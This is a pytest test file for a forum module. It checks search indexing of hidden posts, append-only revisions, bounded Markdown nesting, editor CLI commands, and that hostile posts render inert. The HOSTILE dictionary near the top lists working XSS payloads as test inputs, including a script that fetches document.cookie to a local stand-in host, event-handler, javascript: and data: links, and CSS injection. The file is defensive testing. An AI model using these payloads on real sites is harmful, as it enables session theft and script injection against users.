"""The forum's rules below the API, on both databases: the search index follows what is
hidden, revisions are append-only in the database itself, hostile Markdown comes out inert,
deep nesting is bounded, and the editors' commands (``ictfootprint forum``)."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from sqlalchemy import update
from sqlalchemy.exc import DatabaseError
from typer.testing import CliRunner

from ictfootprint.cli import app
from ictfootprint.model import Role
from ictfootprint.portal import search
from ictfootprint.portal.forum import service
from ictfootprint.portal.markdown import render
from ictfootprint.store import Store
from ictfootprint.store.schema import forum_revisions

# each an attack a member might write; each must come out as text or a link without href
HOSTILE = {
    "script": "<script>fetch('http://127.0.0.1:9/x?c='+document.cookie)</script>",
    "onerror": '<img src="http://127.0.0.1:9/img.png" onerror="alert(1)">',
    "javascript link": "[click me](javascript:alert(document.domain))",
    "svg with script": '<svg onload="alert(1)"><script>alert(2)</script></svg>',
    "css injection": '<style>body{background:url("http://127.0.0.1:9/css")}</style>'
    '<p style="background:url(http://127.0.0.1:9/inline)">x</p>',
    "data link": "[pdf](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown image": "![tracker](http://127.0.0.1:9/pixel.gif)",
}


class Elements(HTMLParser):
    """Every element of an HTML fragment, with its attributes (what a browser would build)."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


@pytest.fixture
def store(db_url: str) -> Store:
    store = Store.open(db_url, actor="tests")
    store.add_user("ana", Role.MEMBER)
    store.add_user("ben", Role.MEMBER)
    return store


def found(store: Store, query: str, kinds: tuple[str, ...] = ("thread", "post")) -> list[str]:
    with store.engine.connect() as connection:
        page = search.search(connection, query, kinds=list(kinds))
    return [f"{hit.kind}:{hit.ref}" for hit in page.hits]


def test_threads_and_posts_are_found_and_leave_the_index_when_hidden(store: Store) -> None:
    thread = service.start_thread(
        store, user="ana", topic="energy", title="Refroidissement gratuit", body="économies",
        lang="fr", country="FRA",
    )  # fmt: skip
    post = service.reply(store, thread.id, user="ben", body="数据中心的能效 很重要")
    assert found(store, "economies") == [f"thread:{thread.id}"]  # accents folded
    assert found(store, "数据中心") == [f"post:{post.id}"]
    service.hide_post(store, post.id, moderator=True, reason="duplicate")
    assert found(store, "数据中心") == []
    service.unhide_post(store, post.id, moderator=True)
    assert found(store, "数据中心") == [f"post:{post.id}"]
    service.hide_thread(store, thread.id, moderator=True, reason="off topic")
    assert found(store, "economies") == [] and found(store, "数据中心") == []
    service.unhide_thread(store, thread.id, moderator=True)
    service.edit(store, post.id, user="ben", body="مراكز البيانات")
    assert found(store, "数据中心") == [] and found(store, "البيانات") == [f"post:{post.id}"]


def test_a_revision_cannot_be_changed_even_by_hand(store: Store) -> None:
    thread = service.start_thread(store, user="ana", topic="policy", title="t", body="first")
    with pytest.raises(DatabaseError, match="append-only"), store.transaction() as connection:
        connection.execute(update(forum_revisions).values(body="rewritten"))
    assert [r.body for r in service.revisions(store, thread.id)] == ["first"]


@pytest.mark.parametrize("attack", list(HOSTILE))
def test_a_hostile_post_renders_inert(store: Store, attack: str) -> None:
    thread = service.start_thread(store, user="ana", topic="policy", title=attack, body="x")
    post = service.reply(store, thread.id, user="ana", body=HOSTILE[attack])
    elements = Elements()
    elements.feed(str(render(post.body)))
    assert {tag for tag, _ in elements.found} <= {"p", "a", "pre", "code", "svg"} - {"svg"}
    for tag, attributes in elements.found:
        names = {name for name, _ in attributes}
        assert not {n for n in names if n.startswith("on")} and "style" not in names, tag
        href = dict(attributes).get("href")
        assert href is None or href.startswith(("http://", "https://", "mailto:")), href


def test_deep_nesting_of_quotes_and_lists_is_bounded(store: Store) -> None:
    quotes = ">" * 50_000 + " deep"
    lists = "- " * 20_000 + "item\n" + "> 1. " * 10_000 + "mixed"
    thread = service.start_thread(store, user="ana", topic="policy", title="deep", body=quotes)
    service.reply(store, thread.id, user="ana", body=lists)
    for text in (quotes, lists):
        html = str(render(text))
        assert html.count("<blockquote>") <= 100 and html.count("<ul>") <= 100


def test_the_editors_commands_list_hide_and_lock(store: Store) -> None:
    thread = service.start_thread(store, user="ana", topic="energy", title="PUE", body="text")
    runner = CliRunner()
    url = store.url
    hidden = runner.invoke(app, ["forum", "hide", str(thread.id), "--reason", "spam", "--db", url])
    assert hidden.exit_code == 0, hidden.output
    locked = runner.invoke(app, ["forum", "lock", str(thread.id), "--db", url])
    assert locked.exit_code == 0 and locked.output.strip() == f"thread {thread.id} locked"
    listed = runner.invoke(app, ["forum", "list", "--hidden", "--format", "json", "--db", url])
    assert '"reason": "spam"' in listed.output and '"locked": true' in listed.output
    with pytest.raises(Exception, match="no thread"):
        service.thread(store, thread.id)
    no_reason = runner.invoke(app, ["forum", "hide", "--post", "999999", "--db", url])
    assert no_reason.exit_code != 0
